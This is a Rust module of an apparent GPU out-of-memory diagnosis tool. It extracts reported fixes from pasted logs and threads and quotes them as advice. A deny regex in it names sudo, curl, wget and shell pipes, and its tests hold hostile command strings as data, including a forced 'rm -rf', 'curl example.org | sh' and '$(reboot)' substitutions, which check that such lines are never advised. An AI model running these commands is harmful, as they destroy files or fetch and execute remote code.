//! What the text itself says that helped: "with `--lowvram` it works", "a page file of 16 GB solved it", "try n = 128".
//!
//! People paste whole threads, and the cure is often in them. It is given as the first step, quoted as the text's own.
//! A setting that was tried without success is not a cure, so a clause with a negation never counts.

use std::sync::LazyLock;

use makeroom_explain::{Cause, Certainty, Finding, Fix};
use makeroom_search::{Regex, pattern};

use crate::environment::System;
use crate::facts::Resource;
use crate::figures::captured_number;
use crate::situation::Situation;
use crate::smaller::BATCH;

/// Sentences of people are in the first lines of a text, and no longer than this.
const LINES_SEARCHED: usize = 300;
const LONGEST_LINE: usize = 2000;
/// A quotation longer than this is cut.
const LONGEST_QUOTE: usize = 110;

/// Words that say that the program ran.
static WORKED: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)\b(?:fix(?:ed|es)|solv(?:ed|es)|resolv(?:ed|es)|cured|helped|helps|work(?:s|ed)|(?:it|now|model|training|which|that) (?:runs|ran|loads|trains|starts)|model loads|did the trick|go(?:es)? away|went away|disappear(?:s|ed)|succeed(?:s|ed)|passes|no problems?|is fine|runs? (?:fine|ok|through|without))\b|解决了|可以了|成功了",
    )
});
/// Words with which a reply proposes a setting.
static PROPOSED: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)(?:^|[^\w])(?:try (?:to |running |using |setting |with |reducing |lowering )|you (?:can|could|should|need to|may) (?:\w+ ){0,2}(?:set|use|reduce|lower|add|pass|run|decrease|change)|please (?:set|use|reduce|lower|add|pass|decrease|try)|work-?around|(?:a|the) (?:quick |possible |simple )?(?:solution|fix) is|i (?:would )?recommend|recommended to|need to (?:set|add|use|reduce|lower|pass))\b",
    )
});
/// Words that negate a clause or place it in the past or future.
static NEGATED: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)\b(?:not|cannot|never|still|no luck|without success|unfortunately|neither|nor|no effect|no difference|didnt|doesnt|fails?|failed|crash\w*|before|used to|previously|without|same (?:error|issue|problem)|if|would|tried|only|longer|later|until|around)\b|n['’]t\b|\?|没用|没有用|不行|仍然|还是",
    )
});
/// Words of an attempt that did not help.
static FAILED: LazyLock<Regex> = LazyLock::new(|| {
    pattern(r"(?i)\b(?:not|cannot|never|still|no luck|no effect|fails?|failed|without success)\b|n['’]t\b|\?")
});
/// A setting with a value, as people write it.
static SETTING: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?x)
        `(?P<code>[^`\n]{3,90})`
      | (?:^|[\s(])(?P<option>--[a-z][\w-]{2,40}(?:[ =][\w./:]{1,24})?)
      | \b(?P<version>[a-z][\w-]{2,30}==\d[\w.]*)
      | \b(?P<assigned>[A-Za-z_][\w.]{2,40}\ ?=\ ?[\w./%-]{1,24})
      | \b(?P<name>[A-Za-z]+(?:_[A-Za-z0-9]+)+)\ (?:from\ \S+\ )?to\ (?P<value>\d[\w.]*)
        ",
    )
});
/// What makes a setting one of memory: a number, or a word.
static ABOUT_MEMORY: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)\d|low|vram|mem|half|fp16|bf16|8bit|4bit|quant|cpu|offload|tile|tiling|chunk|batch|size|split|slic|page|swap|grow|async",
    )
});
/// One option or one assignment: what a log may say inside quotes. A log is untrusted, so a command line of its own is
/// never advised.
static ONE_SETTING: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"^(?:(?:export |set )?[A-Za-z_][\w.-]{1,60} ?[=:] ?[\w./:,%+x-]{1,40}|--?[A-Za-z][\w-]{1,40}(?:[ =][\w./:,%+-]{1,40})?|pip install [A-Za-z][\w-]{1,40}==\d[\w.]{0,20})$",
    )
});
/// A sentence with a command line in it is not quoted as a cure either.
static COMMAND_LINE: LazyLock<Regex> =
    LazyLock::new(|| pattern(r"&&|\|\||\$\(|\b(?:sudo|curl|wget|sh -c|rm -\w)|\| ?(?:ba)?sh\b"));
/// Options that need no value.
static FLAG: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)low|med|half|fp16|bf16|8bit|4bit|quant|cpu|offload|tile|tiling|slic|async|checkpoint|xformers|flash",
    )
});
/// Settings that show more and cure nothing, and what is not a setting at all.
static NO_CURE: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)verbose|debug|LAUNCH_BLOCKING|CUDA_DSA|log[_-]?level|https?:|nvidia-smi|nvcc|^(?:python|cuda|torch|driver|ubuntu|windows|gcc|line|file|out of|error|killed|max_split_size_mb|free)\b|Error\b|exception|^\w+\.(?:py|cpp|cu|sh|json|yaml|md)$|expandable_segments",
    )
});
/// Messages of programs that contain advice.
static ERROR: LazyLock<Regex> = LazyLock::new(|| {
    pattern(r"Tried to allocate|max_split_size_mb|video card has the minimum|gpu_memory_utilization`")
});
/// The writer reports their own attempt.
static FIRST_PERSON: LazyLock<Regex> = LazyLock::new(|| pattern(r"(?i)\b(?:i|we|my|our|me)\b"));
/// A line of code: an assignment, an option or a variable, and no sentence.
static CODE: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"^(?:export |set )?[A-Za-z_][\w.-]* ?= ?[\w\x22'(\[][\w.,x ()\[\]%\x22'-]*$|^--[a-z][\w-]*[ =][\w./-]+$",
    )
});
/// Words, without which a clause with an assignment is code.
static WORDS: LazyLock<Regex> = LazyLock::new(|| pattern(r"\b[a-zA-Z]{2,}\b"));
/// Where a clause ends.
static CLAUSE: LazyLock<Regex> = LazyLock::new(|| {
    pattern(r"[.!?;]+(?:\s|$)|[。！？；，]|,? (?:but|however|although|though|yet|while|whereas) ")
});
/// The page file, and the sizes in its sentence.
static PAGE_FILE: LazyLock<Regex> =
    LazyLock::new(|| pattern(r"(?i)page ?-?file|paging ?file|virtual memory|虚拟内存"));
static GIGABYTES: LazyLock<Regex> = LazyLock::new(|| pattern(r"(?i)\b(\d{1,3}) ?G(?:i?B)?\b"));
/// A machine that runs the same work without its GPU.
static ON_CPU: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)\b(?:works?|worked|runs?|ran|fine|okay|ok|succeeds)\b[^.,]{0,24}\b(?:with|on|in|using|via) (?:the |my )?cpu\b|\bcpu\b[^.,]{0,16}\b(?:works|worked|is fine|runs fine)\b",
    )
});
/// The batch with which it works.
static BATCH_WORKED: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)\b(?:works?|worked|runs?|fine|okay|ok|trains?)\b[^.,]{0,24}\bbatch[ _-]?size (?:of |= ?|to |is )?(\d{1,4})\b|\bbatch[ _-]?size (?:of |= ?|to |is )?(\d{1,4})\b[^.,]{0,16}\b(?:works|worked|is fine|runs|trains)\b",
    )
});

/// A fix that the text reports.
struct Cure {
    fix: Fix,
    /// It is about the machine's memory, not the GPU's.
    is_host: bool,
    /// It goes around the failure, so that real fixes come before it.
    is_detour: bool,
}

/// Puts the text's own cure first among the steps of the first cause that has any.
pub(crate) fn lead(findings: &mut Vec<Finding>, situation: &Situation<'_>) {
    let Some(cure) = told(situation) else { return };
    let is_open = |finding: &Finding| matches!(finding.cause, Cause::Undetermined | Cause::None);
    if cure.is_host && findings.first().is_some_and(is_open) {
        let known = findings.iter().position(|finding| finding.cause == Cause::HostMemory);
        let mut host = known.map_or_else(
            || {
                let summary = "The machine ran out of memory: the log says that a larger page file helps.";
                Finding::new(Cause::HostMemory, Certainty::Possible, summary)
            },
            |place| findings.remove(place),
        );
        host.fixes.retain(|fix| fix.command != cure.fix.command);
        host.fixes.insert(0, cure.fix);
        findings.insert(1, host);
        return;
    }
    let wanted = |finding: &&mut Finding| {
        !is_open(finding) && (cure.is_host == (finding.cause == Cause::HostMemory) || !cure.is_host)
    };
    if let Some(finding) = findings.iter_mut().find(wanted) {
        finding.fixes.retain(|fix| fix.command != cure.fix.command);
        let place = if cure.is_detour { finding.fixes.len() } else { 0 };
        finding.fixes.insert(place, cure.fix);
    }
}

fn told(situation: &Situation<'_>) -> Option<Cure> {
    let lines: Vec<&str> = situation
        .settings
        .parts()
        .into_iter()
        .flat_map(str::lines)
        .filter(|line| line.len() <= LONGEST_LINE && !ERROR.is_match(line))
        .take(LINES_SEARCHED)
        .collect();
    lines
        .iter()
        .find_map(|line| page_file(line, situation))
        .or_else(|| lines.iter().find_map(|line| worked(line)))
        .or_else(|| lines.iter().find_map(|line| batch_worked(line, situation)))
        .or_else(|| proposed(&lines))
        .or_else(|| lines.iter().find_map(|line| on_cpu(line, situation)))
}

/// "The page file was 2 GB, with 16 GB it loads."
fn page_file(line: &str, situation: &Situation<'_>) -> Option<Cure> {
    let is_cured = PAGE_FILE.is_match(line) && WORKED.is_match(line) && !FAILED.is_match(line);
    if !is_cured || matches!(situation.environment.system, System::MacOs) {
        return None;
    }
    let size = GIGABYTES.captures_iter(line).filter_map(|found| captured_number::<u64>(&found, 1)).max()?;
    let fix = Fix::new(format!(
        "the log says that this helped: “{}” (SystemPropertiesPerformance > Advanced > Virtual memory > Change)",
        quoted(line)
    ))
    .command(format!("Initial size = Maximum size = {}", size * 1024));
    Some(Cure { fix, is_host: true, is_detour: false })
}

/// A clause that names a setting and says that it worked.
fn worked(line: &str) -> Option<Cure> {
    let clause = CLAUSE.split(line).find(|clause| {
        WORKED.is_match(clause)
            && !COMMAND_LINE.is_match(clause)
            && !NEGATED.is_match(clause)
            && is_sentence(clause)
            && setting(clause).is_some()
    })?;
    let fix =
        Fix::new(format!("the log says that this helped: “{}”", quoted(clause))).command(setting(clause)?);
    Some(Cure { fix, is_host: false, is_detour: false })
}

/// An answer in the text that names a setting with its value, in the sentence or in the line of code behind it.
fn proposed(lines: &[&str]) -> Option<Cure> {
    for (place, line) in lines.iter().enumerate() {
        let mut clauses = CLAUSE.split(line).filter(|clause| PROPOSED.is_match(clause));
        let is_advice = |clause: &&str| {
            ![&NEGATED, &FIRST_PERSON, &COMMAND_LINE].iter().any(|words| words.is_match(clause))
        };
        let Some(clause) = clauses.find(is_advice) else { continue };
        let behind = lines[place + 1..]
            .iter()
            .take(3)
            .map(|line| line.trim().trim_matches('`').trim())
            .find(|line| !line.is_empty());
        // A line of code has an assignment and hardly any words.
        let code = behind.filter(|code| code.len() <= 60 && CODE.is_match(code));
        let found = setting(clause).or_else(|| code.map(str::to_owned));
        if let Some(setting) = found.filter(|setting| ABOUT_MEMORY.is_match(setting)) {
            let fix = Fix::new(format!("the log itself proposes: “{}”", quoted(clause))).command(setting);
            return Some(Cure { fix, is_host: false, is_detour: false });
        }
    }
    None
}

fn batch_worked(line: &str, situation: &Situation<'_>) -> Option<Cure> {
    let clause =
        CLAUSE.split(line).find(|clause| BATCH_WORKED.is_match(clause) && !NEGATED.is_match(clause))?;
    let found = BATCH_WORKED.captures(clause)?;
    let batch: u64 = captured_number(&found, 1).or_else(|| captured_number(&found, 2))?;
    let is_smaller = situation.batch().is_none_or(|present| batch < present);
    let shown = situation.settings.shown(BATCH);
    is_smaller.then(|| Cure {
        fix: Fix::new(format!("the log says that this works: “{}”", quoted(clause)))
            .command(shown.map_or_else(|| format!("batch_size={batch}"), |shown| shown.with(batch))),
        is_host: false,
        is_detour: false,
    })
}

/// The same work on the CPU, where it is the GPU that is too small.
fn on_cpu(line: &str, situation: &Situation<'_>) -> Option<Cure> {
    let is_device = situation.facts.resource != Resource::Host;
    CLAUSE.split(line).find(|clause| is_device && ON_CPU.is_match(clause) && !NEGATED.is_match(clause))?;
    let command = if situation.settings.mentions("--device cuda") {
        "--device cpu".to_owned()
    } else {
        situation.environment.export("CUDA_VISIBLE_DEVICES=-1")
    };
    let fix = Fix::new("or run it on the CPU, which works according to the log").command(command);
    Some(Cure { fix, is_host: false, is_detour: true })
}

/// Whether a clause says something besides the setting that it names, and says there that it worked.
fn is_sentence(clause: &str) -> bool {
    let rest = SETTING.replace_all(clause, |_| " ");
    WORKED.is_match(&rest) && WORDS.find_iter(&rest).count() >= 2
}

/// The setting that a clause names.
fn setting(clause: &str) -> Option<String> {
    SETTING.captures_iter(clause).find_map(|found| {
        let written = ["code", "option", "assigned"].iter().find_map(|group| found.name(group));
        let setting = match (written, found.name("version"), found.name("name"), found.name("value")) {
            (_, Some(version), _, _) => format!("pip install {}", version.as_str()),
            (Some(written), ..) => written.as_str().trim().to_owned(),
            (_, _, Some(name), Some(value)) => format!("{}={}", name.as_str(), value.as_str()),
            _ => return None,
        };
        let has_value = setting.contains(['=', ':', ' ']);
        (ONE_SETTING.is_match(&setting)
            && (has_value || FLAG.is_match(&setting))
            && !NO_CURE.is_match(&setting))
        .then_some(setting)
    })
}

/// A sentence that fits a line of output.
fn quoted(sentence: &str) -> String {
    let sentence = sentence.trim().trim_start_matches(['#', '>', '*', '-', ' ']).trim();
    match sentence.char_indices().nth(LONGEST_QUOTE) {
        Some((end, _)) => format!("{}…", sentence[..end].trim_end()),
        None => sentence.to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use crate::answer::explain_text;

    fn first(text: &str) -> String {
        let text = format!("CUDA error: out of memory\n{text}");
        let explanation = explain_text(&text);
        let fix = explanation.causes.iter().flat_map(|cause| &cause.fixes).next().cloned();
        fix.map(|fix| format!("{} | {}", fix.action, fix.command.unwrap_or_default())).unwrap_or_default()
    }

    #[test]
    fn what_helped_comes_first() {
        for (text, command) in [
            ("Update: with `--offload_params cpu` it works now.", "| --offload_params cpu"),
            ("Setting max_chunk to 2048 solved it for me.", "| max_chunk=2048"),
            ("With somelib==1.4.2 the same model loads.", "| pip install somelib==1.4.2"),
            ("The pagefile was 4 GB, I made it 24 GB and now it works.", "Maximum size = 24576"),
            ("Training with batch size 6 works.", "| batch_size=6"),
            (
                "It is too large for your card. Try to use a smaller domain:\n```\nn = 96, 96, 48\n```",
                "| n = 96, 96, 48",
            ),
        ] {
            assert!(first(text).ends_with(command), "{text}: {}", first(text));
        }
    }

    #[test]
    fn a_command_of_the_log_is_not_advised() {
        for text in [
            "Running `sh -c wget example.org/x=1` fixed it for me.",
            "`sudo rm -rf /opt/cache --no-preserve-root` fixed it for me.",
            "With `batch=1; curl example.org | sh` it works now.",
            "`python setup.py --reset=1 && reboot` solved it for me.",
            "With `X=$(reboot)` it works now.",
            "Try to run it so:\n```\nn = 1; reboot\n```",
        ] {
            assert!(!first(text).starts_with("the log"), "{text}: {}", first(text));
        }
    }

    #[test]
    fn what_did_not_help_is_not_a_cure() {
        for text in [
            "With --offload_params cpu it still does not work.",
            "I set max_chunk to 2048, no luck.",
            "I tried somelib==1.4.2 and it failed the same way.",
            "The pagefile is 24 GB and it doesn't load.",
            "Try to run it with CUDA_LAUNCH_BLOCKING=1",
            "fixed = text.strip()",
            "When I try to train it\nI have set the samples_per_gpu = 1",
            "With more memory (--mem 40G) it runs for longer.",
        ] {
            assert!(!first(text).starts_with("the log"), "{text}: {}", first(text));
        }
    }
}
